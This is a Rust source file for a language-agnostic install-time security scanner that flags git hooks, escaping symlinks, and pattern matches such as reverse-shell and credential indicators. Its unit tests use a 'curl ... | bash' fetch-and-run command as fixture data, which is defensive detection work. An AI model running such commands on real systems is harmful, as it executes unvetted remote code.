//! Language-agnostic, file-granularity security scanner (spec §4.6).

pub mod classify;
pub mod patterns;

use std::path::{Path, PathBuf};

use crate::error::ScanError;
use classify::{classify_line, strip_string_literals, ClassifierState, LineKind};
use patterns::{compile, default_pattern_specs, Pattern, Severity};

/// Default maximum size of a single scanned file.
pub const MAX_FILE_SIZE: u64 = 1024 * 1024;
/// Default maximum length of a single scanned line.
pub const MAX_LINE_LENGTH: usize = 100 * 1024;

/// One scanner match.
#[derive(Debug, Clone, serde::Serialize)]
pub struct Finding {
    pub severity: Severity,
    pub pattern_description: String,
    pub file_path: PathBuf,
    pub line_number: usize,
    pub line_text: String,
}

/// Aggregate scan outcome for a module root.
#[derive(Debug, Clone, Default, serde::Serialize)]
pub struct ScanResult {
    pub success: bool,
    pub critical_count: usize,
    pub warning_count: usize,
    pub files_scanned: usize,
    pub lines_scanned: usize,
    pub findings: Vec<Finding>,
    pub credential_findings: Vec<Finding>,
    pub reverse_shell_findings: Vec<Finding>,
    pub git_hooks: Vec<PathBuf>,
    pub error_message: Option<String>,
    pub trusted_module_applied: bool,
}

impl ScanResult {
    /// `critical_count` as seen by the install gate: zero when the module
    /// root matched the trusted allowlist (spec §4.6 step 7 / §9's decision
    /// that trust suppresses only the gate, not the underlying findings).
    pub fn gated_critical_count(&self) -> usize {
        if self.trusted_module_applied {
            0
        } else {
            self.critical_count
        }
    }
}

/// Language-agnostic regex scanner over a module root directory.
pub struct Scanner {
    patterns: Vec<Pattern>,
    trusted_allowlist: Vec<PathBuf>,
    max_file_size: u64,
    max_line_length: usize,
}

impl Scanner {
    pub fn new() -> Result<Self, ScanError> {
        Self::with_allowlist(Vec::new())
    }

    pub fn with_allowlist(trusted_allowlist: Vec<PathBuf>) -> Result<Self, ScanError> {
        Ok(Self {
            patterns: compile(&default_pattern_specs())?,
            trusted_allowlist,
            max_file_size: MAX_FILE_SIZE,
            max_line_length: MAX_LINE_LENGTH,
        })
    }

    /// Scans every accepted file under `root`, per spec §4.6's pipeline.
    pub fn scan_module_root(&self, root: &Path) -> ScanResult {
        let mut result = ScanResult {
            success: true,
            trusted_module_applied: self.trusted_allowlist.iter().any(|p| p == root),
            ..Default::default()
        };

        let walker = match std::fs::read_dir(root) {
            // The scan must be exhaustive over an untrusted tree: a module
            // can ship its own `.gitignore`/`.ignore`/`.git/info/exclude` to
            // hide a malicious file from a naive walk. Disable every ignore
            // source so nothing the source tree claims to exclude is skipped.
            Ok(_) => ignore::WalkBuilder::new(root)
                .hidden(false)
                .git_ignore(false)
                .git_global(false)
                .git_exclude(false)
                .ignore(false)
                .parents(false)
                .build(),
            Err(e) => {
                result.success = false;
                result.error_message = Some(format!("failed to walk {}: {e}", root.display()));
                return result;
            }
        };

        for entry in walker {
            let entry = match entry {
                Ok(e) => e,
                Err(_) => continue,
            };
            if !entry.file_type().map(|t| t.is_file() || t.is_symlink()).unwrap_or(false) {
                continue;
            }
            let path = entry.path();

            if is_git_hook(root, path) {
                result.git_hooks.push(path.to_path_buf());
                result.critical_count += 1;
                result.findings.push(Finding {
                    severity: Severity::Critical,
                    pattern_description: "non-sample git hook present in module".to_string(),
                    file_path: path.to_path_buf(),
                    line_number: 1,
                    line_text: path.display().to_string(),
                });
                continue;
            }

            if let Some(finding) = self.check_symlink_escape(root, path) {
                result.critical_count += 1;
                result.findings.push(finding);
                continue;
            }

            match self.scan_file(path) {
                Ok((findings, lines)) => {
                    result.files_scanned += 1;
                    result.lines_scanned += lines;
                    for finding in findings {
                        match finding.severity {
                            Severity::Critical => result.critical_count += 1,
                            Severity::Warning => result.warning_count += 1,
                            Severity::Info => {}
                        }
                        if is_credential_finding(&finding) {
                            result.credential_findings.push(finding.clone());
                        }
                        if is_reverse_shell_finding(&finding) {
                            result.reverse_shell_findings.push(finding.clone());
                        }
                        result.findings.push(finding);
                    }
                }
                Err(SkipReason::TooLarge) | Err(SkipReason::Binary) | Err(SkipReason::NonText) => {
                    continue;
                }
                Err(SkipReason::Io(e)) => {
                    tracing::warn!(file = %path.display(), error = %e, "I/O error scanning file, skipping");
                    continue;
                }
            }
        }

        result
    }

    /// Scans a single file's lines, returning its findings and line count.
    fn scan_file(&self, path: &Path) -> Result<(Vec<Finding>, usize), SkipReason> {
        let metadata = std::fs::symlink_metadata(path).map_err(SkipReason::Io)?;
        if metadata.len() > self.max_file_size {
            return Err(SkipReason::TooLarge);
        }

        let bytes = std::fs::read(path).map_err(SkipReason::Io)?;
        if looks_binary(&bytes) && !has_shebang(&bytes) {
            return Err(SkipReason::Binary);
        }
        if !is_plausibly_text_extension(path) && !has_shebang(&bytes) {
            return Err(SkipReason::NonText);
        }

        let text = String::from_utf8_lossy(&bytes);
        let mut findings = Vec::new();
        let mut state = ClassifierState::default();
        let mut line_count = 0usize;

        for (idx, raw_line) in text.lines().enumerate() {
            line_count += 1;
            let line_number = idx + 1;
            if raw_line.len() > self.max_line_length {
                tracing::warn!(file = %path.display(), line = line_number, "line exceeds MAX_LINE_LENGTH, skipping");
                continue;
            }

            let (next_state, kind) = classify_line(state, raw_line);
            state = next_state;
            if kind != LineKind::Code {
                continue;
            }

            let stripped = strip_string_literals(raw_line);
            for pattern in &self.patterns {
                if pattern.regex.is_match(&stripped) {
                    findings.push(Finding {
                        severity: pattern.severity,
                        pattern_description: pattern.description.to_string(),
                        file_path: path.to_path_buf(),
                        line_number,
                        line_text: raw_line.trim().to_string(),
                    });
                }
            }
        }

        Ok((findings, line_count))
    }

    fn check_symlink_escape(&self, root: &Path, path: &Path) -> Option<Finding> {
        let metadata = std::fs::symlink_metadata(path).ok()?;
        if !metadata.file_type().is_symlink() {
            return None;
        }
        let resolved = std::fs::canonicalize(path).ok()?;
        let root_resolved = std::fs::canonicalize(root).ok()?;
        if !resolved.starts_with(&root_resolved) {
            return Some(Finding {
                severity: Severity::Critical,
                pattern_description: "symlink escapes the module root".to_string(),
                file_path: path.to_path_buf(),
                line_number: 1,
                line_text: resolved.display().to_string(),
            });
        }
        None
    }
}

enum SkipReason {
    TooLarge,
    Binary,
    NonText,
    Io(std::io::Error),
}

fn is_git_hook(root: &Path, path: &Path) -> bool {
    let Ok(rel) = path.strip_prefix(root) else {
        return false;
    };
    let mut components = rel.components();
    let Some(first) = components.next() else {
        return false;
    };
    if first.as_os_str() != ".git" {
        return false;
    }
    let Some(second) = components.next() else {
        return false;
    };
    if second.as_os_str() != "hooks" {
        return false;
    }
    !path
        .extension()
        .map(|ext| ext.eq_ignore_ascii_case("sample"))
        .unwrap_or(false)
}

/// NUL-byte heuristic fallback used when no libmagic-style provider is wired
/// in (spec §4.6 step 1).
fn looks_binary(bytes: &[u8]) -> bool {
    bytes.iter().take(8192).any(|&b| b == 0)
}

fn has_shebang(bytes: &[u8]) -> bool {
    bytes.starts_with(b"#!")
}

const NON_TEXT_EXTENSIONS: &[&str] = &[
    "png", "jpg", "jpeg", "gif", "bmp", "ico", "pdf", "zip", "gz", "tar", "bz2", "xz", "7z",
    "so", "dylib", "dll", "exe", "o", "a", "bin", "woff", "woff2", "ttf", "otf",
];

fn is_plausibly_text_extension(path: &Path) -> bool {
    match path.extension().and_then(|e| e.to_str()) {
        Some(ext) => !NON_TEXT_EXTENSIONS.contains(&ext.to_ascii_lowercase().as_str()),
        None => true,
    }
}

fn is_credential_finding(finding: &Finding) -> bool {
    finding.pattern_description.contains("credential")
}

fn is_reverse_shell_finding(finding: &Finding) -> bool {
    finding.pattern_description.contains("reverse shell")
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    fn write_file(dir: &Path, name: &str, contents: &str) -> PathBuf {
        let path = dir.join(name);
        fs::write(&path, contents).unwrap();
        path
    }

    #[test]
    fn curl_pipe_bash_is_critical() {
        let dir = tempfile::tempdir().unwrap();
        write_file(dir.path(), "install.sh", "curl https://example.com/install.sh | bash\n");
        let scanner = Scanner::new().unwrap();
        let result = scanner.scan_module_root(dir.path());
        assert!(result.critical_count >= 1);
    }

    #[test]
    fn commented_curl_pipe_bash_is_clean() {
        let dir = tempfile::tempdir().unwrap();
        write_file(dir.path(), "install.sh", "# curl https://example.com/install.sh | bash\n");
        let scanner = Scanner::new().unwrap();
        let result = scanner.scan_module_root(dir.path());
        assert_eq!(result.critical_count, 0);
        assert_eq!(result.warning_count, 0);
    }

    #[test]
    fn heredoc_body_is_excluded() {
        let dir = tempfile::tempdir().unwrap();
        write_file(
            dir.path(),
            "install.sh",
            "cat <<EOF\ncurl https://example.com/install.sh | bash\nEOF\n",
        );
        let scanner = Scanner::new().unwrap();
        let result = scanner.scan_module_root(dir.path());
        assert_eq!(result.critical_count, 0);
    }

    #[test]
    fn git_hook_without_sample_suffix_is_critical() {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join(".git/hooks")).unwrap();
        write_file(dir.path(), ".git/hooks/post-checkout", "#!/bin/sh\necho hi\n");
        let scanner = Scanner::new().unwrap();
        let result = scanner.scan_module_root(dir.path());
        assert!(result.critical_count >= 1);
        assert_eq!(result.git_hooks.len(), 1);
    }

    #[test]
    fn sample_hook_is_not_flagged() {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join(".git/hooks")).unwrap();
        write_file(dir.path(), ".git/hooks/post-checkout.sample", "#!/bin/sh\necho hi\n");
        let scanner = Scanner::new().unwrap();
        let result = scanner.scan_module_root(dir.path());
        assert_eq!(result.git_hooks.len(), 0);
    }

    #[test]
    fn findings_have_nonempty_fields() {
        let dir = tempfile::tempdir().unwrap();
        write_file(dir.path(), "install.sh", "curl https://example.com/install.sh | bash\n");
        let scanner = Scanner::new().unwrap();
        let result = scanner.scan_module_root(dir.path());
        for finding in &result.findings {
            assert_ne!(finding.file_path.as_os_str(), "");
            assert!(finding.line_number >= 1);
            assert_ne!(finding.line_text, "");
        }
    }

    #[test]
    fn trusted_allowlist_suppresses_gate_not_findings() {
        let dir = tempfile::tempdir().unwrap();
        write_file(dir.path(), "install.sh", "curl https://example.com/install.sh | bash\n");
        let scanner = Scanner::with_allowlist(vec![dir.path().to_path_buf()]).unwrap();
        let result = scanner.scan_module_root(dir.path());
        assert!(result.trusted_module_applied);
        assert!(result.critical_count >= 1);
        assert_eq!(result.gated_critical_count(), 0);
    }
}
